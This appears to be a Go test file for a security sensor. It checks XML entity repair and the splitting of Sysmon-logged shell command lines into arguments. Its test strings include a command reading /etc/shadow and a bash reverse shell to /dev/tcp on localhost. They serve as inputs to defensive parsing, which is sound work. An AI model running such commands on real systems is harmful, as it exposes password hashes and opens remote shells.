package sensor

import (
	"fmt"
	"testing"
)

func TestRepairEntities(t *testing.T) {
	for _, c := range []struct {
		in, want string
		n        int
	}{
		{"&lt unknown process&gt ", "&lt;unknown process&gt;", 2},
		{"bash -c echo &quot hi&quot  | whoami", "bash -c echo &quot;hi&quot; | whoami", 2},
		{"&lt;ok&gt; &amp;", "&lt;ok&gt; &amp;", 0},
		{"a &amp", "a &amp;", 1},
		{"&ltx &#60; &unknown", "&ltx &#60; &unknown", 0}, // not a predefined entity: left to the parser
		{"no entity", "no entity", 0},
	} {
		got, n := repairEntities([]byte(c.in))
		if string(got) != c.want || n != c.n {
			t.Errorf("repairEntities(%q) = %q, %d; want %q, %d", c.in, got, n, c.want, c.n)
		}
	}
}

// TestSysmonArgs: a shell's command string is one argument again.
func TestSysmonArgs(t *testing.T) {
	cases := []struct{ image, in, want string }{
		{"/usr/bin/dash", "sh -c cat /etc/shadow 2>&1", `["sh" "-c" "cat /etc/shadow 2>&1"]`},
		{"/usr/bin/bash", "/bin/bash -lc bash -i >& /dev/tcp/127.0.0.1/4445 0>&1", `["/bin/bash" "-lc" "bash -i >& /dev/tcp/127.0.0.1/4445 0>&1"]`},
		{"/usr/bin/bash", "bash -c id", `["bash" "-c" "id"]`},
		{"/usr/bin/bash", "bash -i", `["bash" "-i"]`},
		{"/usr/bin/bash", "bash /tmp/x.sh -c y", `["bash" "/tmp/x.sh" "-c" "y"]`}, // a script's own -c
		{"/usr/bin/ps", "ps -ef --forest", `["ps" "-ef" "--forest"]`},
		{"/usr/bin/dash", "", `[]`},
	}
	for _, c := range cases {
		got := sysmonArgs(c.image, c.in)
		if got == nil {
			got = []string{}
		}
		if s := fmt.Sprintf("%q", got); s != c.want {
			t.Errorf("sysmonArgs(%s, %q) = %s, want %s", c.image, c.in, s, c.want)
		}
	}
}
